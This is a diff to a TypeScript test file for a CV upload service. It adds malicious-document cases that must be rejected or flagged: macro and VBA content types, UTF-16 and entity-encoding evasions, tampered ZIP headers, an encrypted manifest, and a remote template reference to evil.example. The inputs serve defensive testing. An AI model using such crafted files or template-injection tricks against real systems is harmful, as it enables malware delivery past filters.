@@ -16,6 +16,20 @@ const SILENT = "";
 const EXTERNAL =
   '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
   'Target="http://evil.example/t.dotm" TargetMode="External"/>';
+const MACRO_TYPES = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
+const VBA_TYPES =
+  '<Types><Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>';
+const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");
+const MANIFEST = '<manifest:file-entry><manifest:encryption-data manifest:checksum-type="SHA1"/></manifest:file-entry>';
+
+/** An archive with a number of its central directory's second entry changed. */
+function tampered(offset: number, value: number): Buffer<ArrayBuffer> {
+  const archive = zipArchive(DOCX);
+  const first = archive.indexOf("PK\u0001\u0002", "latin1");
+  const second = archive.indexOf("PK\u0001\u0002", first + 4, "latin1");
+  archive.writeUInt16LE(value, second + offset);
+  return archive;
+}
 
 let mailServer: MailServer;
 let mailer: RunningMailer;
@@ -67,6 +81,11 @@ test.each<[string, string | Buffer<ArrayBuffer>, number, string]>([
   ["cv.docx", zipArchive({ ...DOCX, "word\\..\\x": "x" }), 422, "cvContent"],
   ["cv.docx", zipArchive({ ...DOCX, "word/media/a.bin": Buffer.alloc(20 * MB) }), 422, "cvContent"],
   ["cv.docx", zipArchive({ ...DOCX, "word/media/a.bin": Buffer.alloc(51 * MB, "ab c") }), 422, "cvContent"],
+  ["cv.docx", zipArchive([["[Content_Types].xml", MACRO_TYPES], ...Object.entries(DOCX)]), 422, "cvContent"],
+  ["cv.docx", zipArchive({ ...DOCX, "[Content_Types].xml": utf16(MACRO_TYPES) }), 422, "cvContent"],
+  ["cv.docx", zipArchive({ ...DOCX, "[Content_Types].xml": MACRO_TYPES.replace("E", "&#x45;") }), 422, "cvContent"],
+  ["cv.docx", zipArchive({ ...DOCX, "[Content_Types].xml": VBA_TYPES, "word/a.bin": "" }), 422, "cvContent"],
+  ["cv.docx", tampered(20, 60_000), 422, "cvContent"],
   ["cv.docx", zipArchive(ODT), 422, "cvContent"],
   ["cv.odt", zipArchive(DOCX), 422, "cvContent"],
   ["cv.odt", zipArchive({ ...ODT, mimetype: "application/vnd.oasis.opendocument.spreadsheet" }), 422, "cvContent"],
@@ -89,7 +108,12 @@ test.each<[string, string | Buffer<ArrayBuffer>, string]>([
   ["cv.pdf", `%PDF-1.7\n${" ".repeat(65_523)}<</S/Launch>>`, "[active CV] "],
   ["cv.docx", zipArchive(DOCX), ""],
   ["cv.docx", zipArchive({ ...DOCX, "word/_rels/settings.xml.rels": EXTERNAL }), "[external template] "],
+  ["cv.docx", zipArchive({ ...DOCX, "Word/_rels/Settings.xml.rels": EXTERNAL }), "[external template] "],
+  ["cv.docx", zipArchive({ ...DOCX, "x/_rels/settings2.xml.rels": EXTERNAL }), "[external template] "],
+  ["cv.docx", zipArchive({ ...DOCX, "word/_rels/settings.xml.rels": utf16(EXTERNAL) }), "[external template] "],
+  ["cv.docx", tampered(8, 1), "[encrypted CV] "],
   ["cv.odt", zipArchive(ODT), ""],
+  ["cv.odt", zipArchive({ ...ODT, "META-INF/manifest.xml": MANIFEST }), "[encrypted CV] "],
   [`${"x".repeat(250)}.pdf`, "%PDF-1.7", ""],
   ["CON.pdf", "%PDF-1.7", ""],
 ])("%s (case %#) is delivered, with its marks in the subject", async (name, content, marks) => {
